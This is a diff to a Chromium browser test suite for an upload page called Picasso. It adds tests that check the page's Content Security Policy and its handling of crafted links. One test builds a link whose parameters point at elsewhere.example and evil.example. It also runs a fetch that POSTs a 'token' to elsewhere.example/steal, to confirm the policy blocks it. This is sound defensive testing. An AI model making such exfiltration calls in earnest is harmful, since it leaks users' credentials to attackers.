@@ -107,6 +107,30 @@ function startStack() {
   });
 }
 
+// Another stack beside the shared one, with its own flags (its page's settings): its API URL
+// and a stop function.
+async function extraStack(args) {
+  const dir = mkdtempSync(path.join(tmpdir(), 'picasso-browser-'));
+  const proc = spawn(BIN, ['--port', '0', '--s3-port', '0', '--data-dir', dir, ...args], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'] });
+  let out = '', err = '';
+  proc.stderr.on('data', (d) => { err += d; });
+  const url = await new Promise((resolve, reject) => {
+    const timer = setTimeout(() => reject(new Error(`no banner within 30 s; stderr:\n${err}`)), WAIT);
+    proc.stdout.on('data', (d) => {
+      out += d;
+      const m = /API:\s*(https?:\/\/\S+)/.exec(out);
+      if (m) { clearTimeout(timer); resolve(m[1].replace(/\/+$/, '')); }
+    });
+    proc.on('exit', (code) => { clearTimeout(timer); reject(new Error(`picasso exited (code ${code}); stderr:\n${err}`)); });
+  });
+  const stop = () => new Promise((resolve) => {
+    if (proc.exitCode !== null || proc.signalCode !== null) return resolve();
+    proc.once('exit', () => { rmSync(dir, { recursive: true, force: true }); resolve(); });
+    proc.kill('SIGTERM');
+  });
+  return { api: url, stop };
+}
+
 function stopStack() {
   if (!stack || stack.exitCode !== null || stack.signalCode !== null) return Promise.resolve();
   return new Promise((resolve) => {
@@ -134,11 +158,12 @@ const uploadRow = (name) => page.locator(`#uploads li.upload[data-filename="${na
 const VIEWPORT = { width: 1100, height: 820 };
 
 // A page of its own browser context (its own sessionStorage: another user), errors collected.
-async function newUserPage(query = '') {
+async function newUserPage(query = '', base = api) {
   const context = await browser.newContext({ viewport: VIEWPORT });
   const p = await context.newPage();
   p.on('pageerror', (e) => pageErrors.push(`pageerror: ${e.message}`));
-  const res = await p.goto(`${api}/${query}`);
+  p.on('console', (m) => { if (/Content Security Policy/.test(m.text())) pageErrors.push(`csp: ${m.text()}`); });
+  const res = await p.goto(`${base}/${query}`);
   assert.equal(res.status(), 200);
   return p;
 }
@@ -191,7 +216,10 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
       });
       page = await browser.newPage({ viewport: VIEWPORT });
       page.on('pageerror', (e) => pageErrors.push(`pageerror: ${e.message}`));
-      page.on('console', (m) => { if (m.type() === 'error') pageErrors.push(`console: ${m.text()}`); });
+      page.on('console', (m) => {
+        if (/Content Security Policy/.test(m.text())) pageErrors.push(`csp: ${m.text()}`);
+        else if (m.type() === 'error') pageErrors.push(`console: ${m.text()}`);
+      });
       const res = await page.goto(`${api}/`);
       assert.equal(res.status(), 200, 'GET / should serve the page');
       await page.locator('h1', { hasText: 'Picasso' }).waitFor();
@@ -396,7 +424,7 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
     });
   });
 
-  test('with a WebSocket API (?ws=, as on AWS) rows change from its messages, and the page reconnects', async () => {
+  test('with a WebSocket API (--live-url, as on AWS) rows change from its messages, and the page reconnects', async () => {
     await withLogs(async () => {
       // Stands in for API Gateway's WebSocket API: what the page connects with, and what it is sent.
       const wss = new WebSocketServer({ host: '127.0.0.1', port: 0 });
@@ -410,7 +438,10 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
           await new Promise((r) => setTimeout(r, 20));
         }
       };
-      const erin = await newUserPage(`?ws=ws://127.0.0.1:${wss.address().port}/live`);
+      // The page's settings come from the stack that serves it: this one is told a WebSocket API.
+      const other = await extraStack(['--live-url', `ws://127.0.0.1:${wss.address().port}/live`]);
+      const api = other.api;
+      const erin = await newUserPage('', api);
       const seen = [];
       erin.on('request', (r) => seen.push(new URL(r.url()).pathname));
       await signIn(erin, 'erin');
@@ -447,6 +478,7 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
       await until('one GET /files after reconnecting', () => seen.filter((p) => p === '/files').length === listed + 1);
       await erin.context().close();
       wss.close();
+      await other.stop();
     });
   });
 
@@ -524,11 +556,45 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
     });
   });
 
+  test('the page takes its settings from the stack that serves it, never from its URL, and reaches only their origins', async () => {
+    await withLogs(async () => {
+      const res = await fetch(`${api}/`);
+      assert.equal(res.status, 200, 'the page needs no token');
+      const csp = res.headers.get('content-security-policy');
+      for (const d of ["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "script-src 'sha256-"]) assert.ok(csp.includes(d), `${d} in ${csp}`);
+      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*/);
+      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
+      assert.equal(res.headers.get('referrer-policy'), 'no-referrer');
+
+      // A crafted link: the old URL parameters are ignored, and the token goes nowhere else.
+      const crafted = '?api=https://elsewhere.example&client_id=abc&domain=evil.example&ws=wss://elsewhere.example/live';
+      const ivy = await newUserPage(crafted);
+      const hosts = new Set();
+      ivy.on('request', (r) => hosts.add(new URL(r.url()).host));
+      ivy.on('websocket', (w) => hosts.add(new URL(w.url()).host));
+      assert.equal(await ivy.locator('#api-base').textContent(), `API: ${api}`);
+      await signIn(ivy, 'ivy');
+      const id = await uploadThrough(ivy, { name: 'stays-here.txt', mimeType: 'text/plain', buffer: Buffer.from('here\n') });
+      await rowReaches(ivy, id, 'processed');
+      assert.ok(hosts.has(new URL(api).host), 'the page talked to its own API');
+      assert.deepEqual([...hosts].filter((h) => /elsewhere|evil/.test(h)), [], 'nothing sent to the crafted origins');
+      // Whatever runs in the page, its policy refuses other origins.
+      const refused = await ivy.evaluate(() => new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+        fetch('https://elsewhere.example/steal', { method: 'POST', body: 'token' }).catch(() => {});
+        setTimeout(() => resolve(null), 5000);
+      }));
+      assert.equal(refused, 'connect-src');
+      for (let i = pageErrors.length - 1; i >= 0; i--) if (pageErrors[i].includes('elsewhere.example')) pageErrors.splice(i, 1);
+      await ivy.context().close();
+    });
+  });
+
   test('accessible (axe-core: no serious or critical violation, signed out and in) and usable 390 px wide', async () => {
     await withLogs(async () => {
       const axe = path.join(ROOT, 'tests/browser/node_modules/axe-core/axe.min.js');
       const violations = async (p) => {
-        await p.addScriptTag({ path: axe });
+        await p.evaluate(readFileSync(axe, 'utf8'));   // not a <script>: the page's policy runs only its own
         const found = await p.evaluate(async () => (await window.axe.run(document)).violations
           .map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 3) })));
         return found.filter((v) => v.impact === 'serious' || v.impact === 'critical');
@@ -679,7 +745,7 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
         nodePaths: [path.join(ROOT, 'tests/browser/node_modules')],
         bundle: true, format: 'iife', write: false, logLevel: 'silent',
       });
-      await page.addScriptTag({ content: bundle.outputFiles[0].text });
+      await page.evaluate(bundle.outputFiles[0].text);
       const token = await tokenOf(page);
       const result = await page.evaluate(async ([api, token]) => {
         const uppy = window.picassoUppy({ api, token: () => token });
@@ -719,7 +785,7 @@ describe('upload page in Chromium', { timeout: 120_000 }, () => {
 
   test('page has no script errors; screenshot saved', async () => {
     await withLogs(async () => {
-      assert.deepEqual(pageErrors.filter((e) => e.startsWith('pageerror')), []);
+      assert.deepEqual(pageErrors.filter((e) => e.startsWith('pageerror') || e.startsWith('csp')), []);
       mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
       writeFileSync(SCREENSHOT, await page.screenshot({ fullPage: true }));
       assert.ok(existsSync(SCREENSHOT));
